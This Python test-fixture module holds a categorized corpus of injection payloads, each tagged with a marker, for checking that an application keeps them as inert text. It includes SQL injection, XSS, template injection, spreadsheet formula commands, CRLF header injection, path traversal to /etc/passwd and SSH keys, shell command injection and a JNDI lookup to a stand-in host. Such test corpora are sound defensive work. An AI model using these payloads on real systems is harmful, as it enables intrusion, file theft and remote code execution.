"""Hostile strings, by what each tries to become: all of them are text, and must stay text.

Where a string could make an element, an attribute, a property or a formula, that bears the name
`MARK`, so that finding it anywhere but in text is proof. No string is longer than 200 characters,
the most that a title may have.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

MARK: Final = "xqz"

EVERYWHERE: Final = (
    "=x\"'--></title></textarea></script><xqz onload=xqz()><script>window.xqz=1</script>"
    "<img src=x onerror=xqz()>#panic()"
)
"""What breaks out of most places of a page at once."""

CORPUS: Final[dict[str, tuple[str, ...]]] = {
    "sql": (
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "'; DROP TABLE sojourn_case; --",
        "') UNION SELECT token_sha256, NULL FROM user_session --",
        "1; SELECT pg_sleep(5) --",
        "%' AND 1=randomblob(100000000) AND '%'='",
        "%s %(id)s :reference ? {0} {x} \\",
        "$$; SELECT 1; $$",
        "_%\\%",
    ),
    "html": (
        "<script>window.xqz=1</script>",
        "</title></textarea></script><xqz>",
        "<img src=x onerror=xqz()>",
        "<svg/onload=xqz()>",
        "<!-- xqz",
        "]]><xqz/>",
        "<iframe srcdoc='<script>xqz()</script>'>",
        "<base href=//xqz.example/>",
        "<form action=//xqz.example><button>Log in",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;xqz&gt;'>",
        "&lt;xqz&gt; &#60;xqz&#62; &amp;amp;",
    ),
    "attribute": (
        '" onmouseover="xqz()" x="',
        "' onfocus='xqz()' autofocus='",
        "x onclick=xqz()",
        '"><xqz a="',
        "`onload=xqz()`",
        '"/xqz="1',
    ),
    "script": (
        "</script><script>xqz()</script>",
        "';xqz();//",
        '";xqz();//',
        "${xqz()}",
        "\\u003cscript\\u003exqz()\\u003c/script\\u003e",
        "*/xqz()/*",
    ),
    "template": (
        "{{ 7*7 }}{{ config }}",
        "{% for xqz in ''.__class__.__mro__ %}{% endfor %}",
        "#{7*7} ${{7*7}} <%= 7*7 %>",
    ),
    "url": (
        "javascript:xqz()",
        "data:text/html,<script>xqz()</script>",
        "//xqz.example/",
        "https://xqz.example\\@localhost/",
        "/\\xqz.example",
        "vbscript:xqz",
        "?next=//xqz.example&x=y#z",
    ),
    "formula": (
        "=HYPERLINK(\"http://xqz.example\",\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0\u2003=1+1",
        "a\",=1+1,\"b",
        "a\r\n=1+1",
        "\uff1d1+1",
    ),
    "calendar": (
        "x\r\nXQZ-EVIL:1",
        "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:xqz",
        "x\r\n ATTENDEE:mailto:xqz@evil.example",
        "x;ALTREP=\"http://xqz.example\":y",
        "x\":mailto:xqz@evil.example",
        "x\\nATTACH:http://xqz.example/\\;\\,",
        "x^nXQZ:1^'y",
        "BEGIN:VALARM",
        "ä" * 90,
    ),
    "header": (
        "x\r\nBcc: xqz@evil.example",
        "x\r\nSet-Cookie: xqz=1",
        "x%0d%0aXQZ: 1",
        "=?utf-8?q?=0d=0aXQZ:_1?=",
        "\"xqz\" <xqz@evil.example>",
    ),
    "typst": (
        "#panic(\"xqz\")",
        "#eval(\"1+1\")",
        "#read(\"/etc/passwd\")",
        "#import \"@preview/xqz:1.0.0\"",
        "$ sum_(i=1)^xqz i $",
        "*xqz* _xqz_ `xqz` <xqz> @xqz",
        "] #set page(width: 1pt) [",
        "\\u{202e} \\ // /* xqz",
        "= xqz",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "file:///etc/passwd",
        "C:\\xqz.txt",
        "x.ics/../../x",
        "con",
        "~root/.ssh/id_rsa",
        "-rf",
        "|id;`id`$(id)",
    ),
    "log": (
        "x\n{\"event\": \"xqz.forged\", \"level\": \"info\"}",
        "x\r127.0.0.1 - - GET /xqz 200",
        "xqz\u2028forged\u2029line",
        "x %s %d %n",
        "${jndi:ldap://xqz.example/a}",
    ),
    "unseen": (
        "\u202etxt.exe xqz",
        "\ufeffxqz\u200b\u200d",
        "a\u0301" * 60,
        "\U0001f9d1\u200d\U0001f9bd" * 20,
        "\ufdfa" * 40,
        "\u0130\u0131\u017f\u212a",
    ),
    "document": (
        "&xqz; <!ENTITY xqz SYSTEM 'file:///etc/passwd'>",
        "!!python/object/apply:os.system ['xqz']",
        "*xqz &xqz [",
        "{\"__proto__\": {\"xqz\": 1}}",
        "NaN",
        "1e999",
        "9" * 60,
    ),
    "never text": (
        "x\x00y",
        "\x1b[2J\x1b]0;xqz\x07",
        "\x08\x08\x7f",
        "\ud800",
        "\uffff",
        "\x9b31mxqz",
        "x\u0085xqz",
    ),
}  # fmt: skip
"""Strings by family. Those that are never text are refused wherever text is asked for."""

NEVER_TEXT: Final = CORPUS["never text"]
TEXTS: Final = tuple(
    text for family, texts in CORPUS.items() if family != "never text" for text in texts
)
"""Every string that somebody may well be called."""

ONE_OF_EACH: Final = tuple(texts[0] for texts in CORPUS.values())
"""One string of each family, where every string would take too long."""

TWO_OF_EACH: Final = tuple(
    text for family, texts in CORPUS.items() if family != "never text" for text in texts[:2]
)
"""Two strings of each family that somebody may well be called."""


@dataclass(frozen=True, slots=True)
class Breadth:
    """How many of the strings are sent where.

    The tests send a few to each place, others at the next one, so that in a run each kind of string
    meets each kind of place. `./run drill injection` sends all of them everywhere.
    """

    is_whole: bool

    def some(self, texts: Sequence[str], turn: int, count: int) -> Sequence[str]:
        """Return that many of the texts, others at each turn; or all."""
        if self.is_whole or count >= len(texts):
            return texts
        return [texts[(turn * count + step) % len(texts)] for step in range(count)]

    @property
    def planted(self) -> Sequence[str]:
        """Return what cases are opened with: each kind twice; or all."""
        return TEXTS if self.is_whole else TWO_OF_EACH
